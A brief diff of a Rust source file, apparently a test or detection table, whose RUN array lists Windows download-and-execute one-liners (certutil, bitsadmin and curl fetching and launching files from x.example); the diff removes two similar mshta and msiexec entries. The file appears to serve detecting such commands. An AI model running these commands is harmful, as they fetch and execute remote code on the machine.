@@ -99,8 +99,6 @@ const RUN: &[&str] = &[
     "certutil -urlcache -f https://x.example/a.exe a.exe && a.exe",
     "bitsadmin /transfer x https://x.example/a.exe a.exe & start a.exe",
     "curl -o a.bat https://x.example/a.bat && call a.bat",
-    "mshta https://x.example/a.hta",
-    "msiexec /q /i https://x.example/a.msi",
 ];
 
 const NOT_RUN: &[&str] = &[
